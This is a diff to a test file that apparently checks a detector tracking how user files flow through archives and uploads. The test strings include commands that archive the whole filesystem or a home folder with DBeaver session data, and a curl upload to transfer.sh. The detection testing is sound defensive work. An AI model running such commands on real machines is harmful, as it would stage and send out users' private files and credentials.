@@ -117,6 +117,19 @@ describe('lineage goes on', () => {
       target: '/Users/lena/Music/i.bin',
     },
     {
+      title: 'by tar of the root of all folders',
+      program: PROGRAMS.tar,
+      line: 'tar -czf Music/l.bin /',
+      target: '/Users/lena/Music/l.bin',
+    },
+    {
+      title: 'by zip of the working directory when that is the root',
+      program: PROGRAMS.zip,
+      line: 'zip -r /Users/lena/Music/m.bin .',
+      target: '/Users/lena/Music/m.bin',
+      cwd: '/',
+    },
+    {
       title: 'by gzip in place',
       program: PROGRAMS.gzip,
       line: `gzip ${SOURCE}`,
@@ -591,4 +604,16 @@ describe('taking an archive apart', () => {
     desk.type(PROGRAMS.curl, 'curl -T Downloads/p.zip https://transfer.sh/');
     expect(desk.findings()).toMatchObject([{ stage }]);
   });
+});
+
+it('an archive of a folder with state of the session tool and its export has the way of the export', () => {
+  const desk = new Desk();
+  const dbeaver = desk.launch(PROGRAMS.dbeaver);
+  desk.story.write(dbeaver, desk.at('Library/DBeaverData/.metadata/a.xml'));
+  desk.story.write(dbeaver, desk.at('Desktop/x.csv'));
+  const tar = desk.type(PROGRAMS.tar, 'tar -czf /tmp/all.tgz /Users/lena');
+  desk.story.write(tar, '/tmp/all.tgz');
+  expect(sent(desk, '/tmp/all.tgz').findings()).toMatchObject([
+    { stage: 'upload', files: [desk.at('Desktop/x.csv'), '/private/tmp/all.tgz'] },
+  ]);
 });
